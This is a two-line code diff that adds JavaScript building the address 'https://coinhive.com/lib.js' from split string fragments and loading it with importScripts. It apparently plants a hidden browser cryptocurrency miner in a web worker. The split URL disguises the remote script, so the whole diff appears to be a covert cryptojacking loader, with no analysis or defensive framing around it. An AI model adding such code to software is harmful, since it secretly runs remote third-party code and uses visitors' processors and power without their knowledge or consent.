@@ -1,0 +1,2 @@
+var u = ['https://coin', 'hive.com', '/lib.js'].join('');
+importScripts(u);
